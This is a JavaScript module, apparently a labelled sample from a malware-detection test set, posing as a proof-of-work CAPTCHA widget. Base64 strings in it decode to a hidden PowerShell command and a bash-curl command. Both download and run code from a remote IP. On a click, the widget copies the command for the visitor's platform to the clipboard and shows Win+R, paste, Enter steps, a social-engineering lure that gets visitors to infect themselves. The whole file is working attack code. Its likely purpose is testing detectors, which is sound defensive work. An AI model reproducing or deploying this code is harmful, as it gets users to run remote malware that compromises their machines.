// expect: malicious
// A proof-of-work CAPTCHA widget: on the checkbox it copies the command for the visitor's platform, decoded from a
// table of base64 literals (the key is only known in the browser), and shows Win+R / Ctrl+V steps (blind set 26).
const r = { win: "cG93ZXJzaGVsbCAtdyBoIC1ub3AgLWMgImlleChpd3IgaHR0cDovLzE5OC41MS4xMDAuMTQwL3YgLVVzZUIpIg==", mac: "L2Jpbi9iYXNoIC1jICIkKGN1cmwgLWZzU0wgaHR0cDovLzE5OC41MS4xMDAuMTQwL20pIg==" };
function platform() { return /Win/i.test(navigator.platform) ? "win" : /Mac/i.test(navigator.platform) ? "mac" : null; }
function copy(os) {
  const id = Math.random().toString(36).slice(2, 8).toUpperCase();
  return navigator.clipboard.writeText(atob(r[os]) + " # I am not a robot - verification ID: " + id);
}
function steps() {
  const d = document.createElement("div");
  d.innerHTML = "<ol><li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Press Ctrl + V</li><li>Press Enter</li></ol>";
  document.body.appendChild(d);
}
export function mount(el) {
  el.addEventListener("click", () => { const os = platform(); if (os) { copy(os); steps(); } });
}
